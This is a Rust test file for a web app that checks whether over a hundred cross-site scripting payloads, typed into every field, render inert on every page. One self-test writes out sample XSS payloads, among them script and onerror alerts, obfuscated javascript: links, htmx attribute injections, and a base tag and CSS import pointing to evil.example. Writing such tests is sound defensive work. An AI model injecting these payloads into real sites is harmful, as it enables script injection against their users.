//! XSS: over a hundred payloads, typed into every field of an idea (each
//! wizard step, the idea's title and name, and an uploaded file's front
//! matter, heading and sections), must render inert on every page: home,
//! each wizard step, the coaching fragment, the results page with each
//! document tab, an old version, the history with its diff, and the
//! downloadable HTML page.
//!
//! "Inert" is judged by `support::inert`, which tokenizes each page as a
//! browser would. On top of that, no payload containing markup may appear
//! verbatim (escaping always changes a `<`), and no template expression
//! may have been evaluated.

mod support;

use std::sync::Arc;

use support::client::Client;
use support::inert::{findings, text_of};
use support::payloads::{self, EVALUATED, Payload};
use support::seed::{STEPS, paragraphs, through_upload, through_wizard, workspace};
use support::server::Server;
use support::{Failure, TestResult};

/// Payloads per idea: each idea carries a few, in every one of its fields.
const GROUP: usize = 4;
/// Ideas checked at the same time (each with its own client).
const WORKERS: usize = 3;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_payload_in_every_field_renders_inert_on_every_page() -> TestResult {
    let payloads = payloads::all();
    assert!(payloads.len() >= 100, "only {} payloads", payloads.len());
    let dir = tempfile::tempdir()?;
    let server = Server::start(dir.path()).await?;
    let base = workspace(&Client::new(&server.base)?).await?;
    let groups: Arc<Vec<Vec<Payload>>> =
        Arc::new(payloads.chunks(GROUP).map(<[Payload]>::to_vec).collect());

    let mut workers = tokio::task::JoinSet::new();
    for worker in 0..WORKERS {
        let (groups, base, server_base) = (groups.clone(), base.clone(), server.base.clone());
        workers.spawn(async move {
            let client = Client::new(&server_base)?;
            let mut problems = Vec::new();
            for group in groups.iter().skip(worker).step_by(WORKERS) {
                let wizard = through_wizard(&client, &base, group).await?;
                problems.extend(check_idea(&client, &wizard, group).await?);
                let uploaded = through_upload(&client, &base, group).await?;
                problems.extend(check_idea(&client, &uploaded, group).await?);
            }
            Ok::<_, Failure>(problems)
        });
    }
    let mut problems = Vec::new();
    while let Some(done) = workers.join_next().await {
        problems.extend(done??);
    }
    // The ideas list shows every title at once.
    let client = Client::new(&server.base)?;
    let home = client.get(&base).await?.expect(200, "home")?;
    problems.extend(check(&home.body, "home", &payloads));

    assert!(
        problems.is_empty(),
        "{} pages are not inert; the first ones:\n{}\n\nserver log:\n{}",
        problems.len(),
        problems
            .iter()
            .take(25)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n"),
        server.log()
    );
    Ok(())
}

/// Fetches every page of one idea and checks each.
async fn check_idea(
    client: &Client,
    idea: &str,
    group: &[Payload],
) -> Result<Vec<String>, Failure> {
    let mut problems = Vec::new();
    let mut pages = vec![
        idea.to_string(),
        format!("{idea}?tab=faq"),
        format!("{idea}?tab=prd"),
        format!("{idea}?tab=press-release&v=1"),
        format!("{idea}/history"),
        format!("{idea}/history?a=1&b=2"),
        format!("{idea}/download/backwards.html"),
    ];
    pages.extend(STEPS.iter().map(|s| format!("{idea}/steps/{s}")));
    for url in &pages {
        // The uploaded idea has one version: its history compares v1 with
        // itself, and `b=2` does not exist (a 404 is fine: nothing shown).
        let page = client.get(url).await?;
        if page.status == 404 && url.ends_with("b=2") {
            continue;
        }
        let page = page.expect(200, url)?;
        problems.extend(check(&page.body, url, group));
        // The pitch opens the file, so no earlier field can swallow it.
        if url.ends_with("/steps/pitch") {
            problems.extend(reached(&page.body, url, group));
        }
    }
    // The live coaching fragment, fed the payloads as a half-typed answer.
    for (i, step) in STEPS.iter().enumerate() {
        let url = format!("{idea}/steps/{step}/coach");
        let answer = paragraphs(group, i);
        let page = client
            .post_form(&url, &[("answer", &answer)])
            .await?
            .expect(200, &url)?;
        problems.extend(check(&page.body, &url, group));
    }
    Ok(problems)
}

/// What is wrong with one page: live markup, a payload with markup shown
/// verbatim (so unescaped), or an evaluated template expression.
fn check(html: &str, url: &str, payloads: &[Payload]) -> Vec<String> {
    let mut problems: Vec<String> = findings(html)
        .into_iter()
        .map(|f| format!("{url}: {f}"))
        .collect();
    for p in payloads {
        if has_markup(&p.text) && html.contains(&p.text) {
            problems.push(format!(
                "{url}: {} payload unescaped: {:?}",
                p.family, p.text
            ));
        }
    }
    if html.contains(EVALUATED) {
        problems.push(format!("{url}: a template expression was evaluated"));
    }
    problems
}

/// The pitch's textarea shows what was typed (decoded, so escaped on the
/// wire): proof the payloads reached the pages, not that they were dropped.
fn reached(html: &str, url: &str, group: &[Payload]) -> Vec<String> {
    let answer = text_of(html, "answer").unwrap_or_default();
    if group.iter().any(|p| answer.contains(p.text.trim())) {
        Vec::new()
    } else {
        vec![format!(
            "{url}: no payload reached the answer box: {answer:?}"
        )]
    }
}

/// Text a browser would parse as a tag: `<` then a letter, `/` or `!`.
fn has_markup(text: &str) -> bool {
    text.as_bytes()
        .windows(2)
        .any(|w| w[0] == b'<' && (w[1].is_ascii_alphabetic() || w[1] == b'/' || w[1] == b'!'))
}

/// The checker must be able to fail: each of these pages is unsafe.
#[test]
fn the_checker_finds_every_kind_of_live_markup() {
    let unsafe_pages = [
        "<p>hi</p><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<iframe src=\"data:text/html,x\"></iframe>",
        "<div hx-on:click=\"alert(1)\">x</div>",
        "<div hx-get=\"https://evil.example/\" hx-trigger=\"load\">x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<img srcset=\"a.png 1x, javascript:alert(1) 2x\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<style>@import 'https://evil.example/x.css';</style>",
    ];
    for page in unsafe_pages {
        assert!(!findings(page).is_empty(), "missed: {page}");
    }
    let payloads = payloads::all();
    assert!(!check("<p><script>alert(1)</script></p>", "/x", &payloads).is_empty());
    assert!(!check("<p>54439</p>", "/x", &payloads).is_empty());
}

/// …and must not cry wolf on escaped text or on our own markup.
#[test]
fn the_checker_accepts_escaped_text_and_our_markup() {
    let safe = concat!(
        "<!DOCTYPE html><html><head><link rel=\"stylesheet\" href=\"/assets/app.css\">",
        "<script src=\"/assets/vendor/htmx.min.js\" defer></script></head>",
        "<body hx-headers='{\"X-CSRF-Token\": \"ab\"}'><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<textarea id=\"answer\" hx-post=\"/w/1/ideas/2/steps/pitch/coach\">",
        "&lt;img src=x onerror=alert(1)></textarea>",
        "<a href=\"?tab=faq\" hx-get=\"?tab=faq\">FAQ</a>",
        "<p>[x](javascript:alert(1)) &quot; onerror=&quot;alert(1)</p></body></html>",
    );
    assert_eq!(findings(safe), Vec::<String>::new());
    assert_eq!(
        text_of(safe, "answer").as_deref(),
        Some("<img src=x onerror=alert(1)>")
    );
    assert!(check(safe, "/x", &payloads::all()).is_empty());
}
